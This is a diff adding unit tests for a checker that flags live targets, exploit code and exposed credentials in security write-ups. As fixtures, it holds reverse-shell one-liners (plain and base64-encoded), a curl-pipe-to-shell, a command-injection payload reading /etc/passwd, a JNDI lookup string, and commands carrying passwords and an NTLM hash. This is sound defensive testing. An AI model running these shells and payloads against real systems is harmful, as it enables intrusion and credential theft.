@@ -76,6 +76,200 @@ test_ioc_is_warning(void)
              0);
 }
 
+/* findings of @a rule (id or family) that block */
+static size_t
+count_block(const char *doc, const char *rule)
+{
+    struct emb_check_report r;
+    size_t n = 0;
+
+    if (count_rule(doc, rule, &r) == (size_t)-1)
+        return (size_t)-1;
+    for (size_t i = 0; i < r.n; i++)
+        if (!r.f[i].suppressed && r.f[i].severity == EMB_SEV_BLOCK &&
+            (strcmp(r.f[i].rule->id, rule) == 0 ||
+             strcmp(emb_check_family_name(r.f[i].rule->family), rule) == 0))
+            n++;
+    emb_check_report_free(&r);
+    return n;
+}
+
+/*
+ * The IOC role comes from the section and the line's role, not from a word
+ * nearby: no demotion in a reproduction section or for a recipe's listener,
+ * words only on their boundaries ("c2" inside "ec2-" or base64 is not C2, the
+ * victim's 关键信息基础设施 is not attacker infrastructure), a hex run only as
+ * a hash cell or a labelled hash. The twins stay warnings: an incident's
+ * attacker address, an access-log line, an IOC table row.
+ */
+static void
+test_ioc_role(void)
+{
+    static const char *const block[] = {
+        "## 漏洞复现\n\n向 http://61.171.9.20:8080/oa/up.do 发送构造的恶意数据包即可。\n",
+        "## Reproduction\n\nSend a malicious request to "
+        "https://portal.hollin-sea.com/api/x?f=..%2f "
+        "and it answers.\n",
+        "## 概述\n\n这家关键信息基础设施运营者的平台 http://61.171.9.20:8081/ui/ 无需登录。\n",
+        "## Notes\n\nThe panel at "
+        "http://ec2-13-52-9-71.us-west-1.compute.amazonaws.com:8080/admin/ is open.\n",
+        "## 说明\n\n访问 http://61.171.9.20/r?q=c2VsZWN0IDE= 返回结果。\n",
+        "## 说明\n\n访问 http://61.171.9.20/x?appkey=0a1b2c3d4e5f60718293a4b5c6d7e8f9 导出。\n",
+        "## 说明\n\n字段填入 `;bash -i >& /dev/tcp/61.171.9.20/4444 0>&1;` 保存后设备回连。\n",
+    };
+    static const char *const warn[] = {
+        "## 事件经过\n\n排查发现攻击者 IP 61.171.9.20 写入计划任务，随后从 61.171.9.21 "
+        "下载挖矿程序。\n",
+        "## 日志\n\n```\n61.171.9.20 - - [12/Dec/2021:03:14:07 +0800] \"GET "
+        "/?x=${jndi:ldap://61.171.9.20:1389/a} HTTP/1.1\" 400 0\n```\n",
+        "## 分析\n\n| 61.171.9.20 | 9a8b7c6d5e4f30211203a4b5c6d7e8f9 | 样本下载 |\n",
+        "## 分析\n\nThe host 61.171.9.20 served it, md5: 9a8b7c6d5e4f30211203a4b5c6d7e8f9\n",
+        "## 分析\n\n样本连接的 C2 为 61.171.9.20。\n",
+    };
+    for (size_t i = 0; i < EMB_ARRAY_LEN(block); i++)
+        if (count_block(block[i], "live_target") == 0)
+            T_FAIL_AT("no blocking live target in: %s", block[i]);
+    for (size_t i = 0; i < EMB_ARRAY_LEN(warn); i++)
+        if (count_block(warn[i], "live_target") != 0 ||
+            count_rule(warn[i], "live_target", NULL) == 0)
+            T_FAIL_AT("not a warning in: %s", warn[i]);
+}
+
+/*
+ * A capitalised word before a dotted number makes it a version ("Firefox
+ * 115.0.1.2"), but not when the number carries a port or a path, or stands in
+ * a scanner's result line: there it is the address of the service named.
+ */
+static void
+test_product_before_address(void)
+{
+    static const char *const block[] = {
+        "## 结果\n\n- Memcached 61.171.9.20:11211 未授权\n",
+        "## 结果\n\n- Gitlab 61.171.9.20/explore 公开项目\n",
+        "```\n[+] Postgres 61.171.9.20 weak password\n```\n",
+    };
+    static const char *const clean[] = {
+        "Upgrade Firefox 115.0.1.2 to the current release.\n",
+        "ExampleCMS 3.0.0.1: fixes the login page.\n",
+        "[+] Found version 5.2.4.1 of the plugin\n",
+    };
+    for (size_t i = 0; i < EMB_ARRAY_LEN(block); i++)
+        if (count_block(block[i], "live_target") == 0)
+            T_FAIL_AT("no blocking live target in: %s", block[i]);
+    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
+        if (count_rule(clean[i], "live_target", NULL) != 0)
+            T_FAIL_AT("live target in: %s", clean[i]);
+}
+
+/*
+ * A command continued over lines (a trailing '\', PowerShell's '`', cmd's
+ * '^') is judged as one logical line: its target or payload on a later line
+ * counts. A continued download-and-verify or a version check stays clean.
+ */
+static void
+test_continued_command(void)
+{
+    static const char *const block[] = {
+        "## 复现\n\n```bash\ncurl -sk \\\n  -X POST \\\n  -d 'a=1' \\\n"
+        "  https://61.171.9.20:8443/api/run\n```\n",
+        "## 复现\n\n```bash\ncurl -sk \\\n  -d '{\"cmd\":\";cat /etc/passwd\"}' \\\n"
+        "  https://target.com/api/v1/exec\n```\n",
+        "## 复现\n\n```powershell\nInvoke-WebRequest -Method POST `\n"
+        "  -Uri https://61.171.9.20/api/run `\n  -Body 'x'\n```\n",
+        "## 复现\n\n```bat\ncurl -k ^\n  -d \"a=1\" ^\n  https://61.171.9.20/api/run\n```\n",
+    };
+    static const char *const clean[] = {
+        "## 校验\n\n```bash\ncurl -fsO \"https://nodejs.org/dist/${V}/SHASUMS256.txt.asc\" \\\n"
+        "&& gpgv --keyring=\"/path/k.kbx\" --output SHASUMS256.txt < SHASUMS256.txt.asc \\\n"
+        "&& shasum --check SHASUMS256.txt --ignore-missing\n```\n\n## 修复\n\n升级。\n",
+        "## 修复\n\n```bash\ncurl -s \\\n  http://127.0.0.1:8080/api/version\n```\n",
+    };
+    for (size_t i = 0; i < EMB_ARRAY_LEN(block); i++)
+        if (count_block(block[i], "exploit_code") == 0)
+            T_FAIL_AT("no exploit_code in: %s", block[i]);
+    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
+        if (count_rule(clean[i], "exploit_code", NULL) != 0)
+            T_FAIL_AT("exploit_code in: %s", clean[i]);
+}
+
+/*
+ * Passwords given as command options or printed by a scanner, with no label
+ * naming them; the twins the conventions exempt stay clean: a placeholder, a
+ * prompt ("-p" alone), a list file, the writer setting a password, advice in
+ * a fix section.
+ */
+static void
+test_cmd_secrets(void)
+{
+    static const char *const found[] = {
+        "```\nmysqldump -h 10.2.3.4 -uadmin -pQw7mZ2x!e shop > shop.sql\n```\n",
+        "```\nredis-cli -h 10.2.3.4 -a Hk3vP9qLm2 info\n```\n",
+        "```\nrpcclient -U backup%Ty6!nW2qa 10.2.3.4\n```\n",
+        "```\npython3 wmiexec.py lab/svc_sql:Vb8#kQ2mw@10.2.3.4\n```\n",
+        "```\nsecretsdump.py -hashes "
+        "aad3b435b51404eeaad3b435b51404ee:8846f7eaee8fb117ad06bdd830b7586c "
+        "lab/admin@10.2.3.4\n```\n",
+        "```\n# redis.conf\nmasterauth Pz8kW3qLn7\n```\n",
+        "```\n[+] ssh 10.2.3.4:22:root Mk29!qwZr\n[+] Redis 10.2.3.5:6379 Jq72Lm9xZp "
+        "file:/data\n```\n",
+    };
+    static const char *const clean[] = {
+        "```\nmysql -h 10.2.3.4 -u root -p shop\n```\n",
+        "```\nredis-cli -a yourpassword\n```\n",
+        "```\nnxc smb 10.2.3.0/24 -u users.txt -p passwords.txt\n```\n",
+        "```\nredis-cli -h 10.2.3.4 config set requirepass Hk3vP9qLm2\n```\n",
+        "## 修复建议\n\n```\nrequirepass Hk3vP9qLm2\n```\n",
+        "```\n[+] Redis 10.2.3.5:6379 unauthorized file:/data\n```\n",
+    };
+    for (size_t i = 0; i < EMB_ARRAY_LEN(found); i++)
+        if (count_block(found[i], "credential") == 0)
+            T_FAIL_AT("no credential in: %s", found[i]);
+    T_EQ_INT(count_block(found[6], "credential"), 2);
+    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
+        if (count_rule(clean[i], "credential", NULL) != 0)
+            T_FAIL_AT("credential in: %s", clean[i]);
+}
+
+/*
+ * A command behind a decode-and-run idiom is decoded and judged: a reverse
+ * shell or a payload is exploit code, its listener a live target. A benign
+ * decoded command, a decode with nothing run, and an access-log line quoting
+ * the idiom stay clean.
+ */
+static void
+test_decode_run(void)
+{
+    static const char *const found[] = {
+        "```\nbash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC82MS4xNzEuOS4yMC81NTU1IDA+JjE=}|{base64,-d}|"
+        "{bash,-i}\n```\n",
+        "执行 `echo Y3VybCBodHRwOi8vNjEuMTcxLjkuMjAveC5zaHxzaA== | base64 --decode | sh` 即可。\n",
+        "```\npowershell -nop -c \"IEX([Text.Encoding]::Unicode.GetString([Convert]::"
+        "FromBase64String('JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAFMAeQBzAHQAZQBtAC4ATgBlAHQALgBTAG8A"
+        "YwBrAGUAdABzAC4AVABDAFAAQwBsAGkAZQBuAHQAKAAnADYAMQAuADEANwAxAC4AOQAuADIAMAAnACwANAA0ADMAKQ"
+        "A"
+        "=')))\"\n```\n",
+    };
+    static const char *const clean[] = {
+        "```\necho ZXhwb3J0IExBTkc9ZW5fVVMuVVRGLTg7IGRhdGU= | base64 -d | sh\n```\n",
+        "```\n$b = "
+        "[Convert]::FromBase64String('YmFzaCAtaSA+JiAvZGV2L3RjcC82MS4xNzEuOS4yMC81NTU1IDA+JjE=')\n"
+        "```\n",
+        "```\n192.0.2.7 - - [12/Dec/2021:03:14:07 +0800] \"GET "
+        "/?c={echo,YmFzaCAtaSA+JiAvZGV2L3RjcC82"
+        "MS4xNzEuOS4yMC81NTU1IDA+JjE=}|{base64,-d}|{bash,-i} HTTP/1.1\" 400 0\n```\n",
+    };
+    for (size_t i = 0; i < EMB_ARRAY_LEN(found); i++) {
+        if (count_block(found[i], "exploit_code.decode_run") != 1)
+            T_FAIL_AT("no decode_run in: %s", found[i]);
+        if (count_block(found[i], "live_target") != 1)
+            T_FAIL_AT("no decoded live target in: %s", found[i]);
+    }
+    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
+        if (count_rule(clean[i], "exploit_code.decode_run", NULL) != 0 ||
+            count_rule(clean[i], "live_target", NULL) != 0)
+            T_FAIL_AT("finding in: %s", clean[i]);
+}
+
 static void
 test_urls(void)
 {
@@ -1289,6 +1483,11 @@ main(void)
     T_RUN(test_ip_glued_to_chinese);
     T_RUN(test_ip_not_live);
     T_RUN(test_ioc_is_warning);
+    T_RUN(test_ioc_role);
+    T_RUN(test_product_before_address);
+    T_RUN(test_continued_command);
+    T_RUN(test_cmd_secrets);
+    T_RUN(test_decode_run);
     T_RUN(test_urls);
     T_RUN(test_dorks);
     T_RUN(test_pass7_shapes);
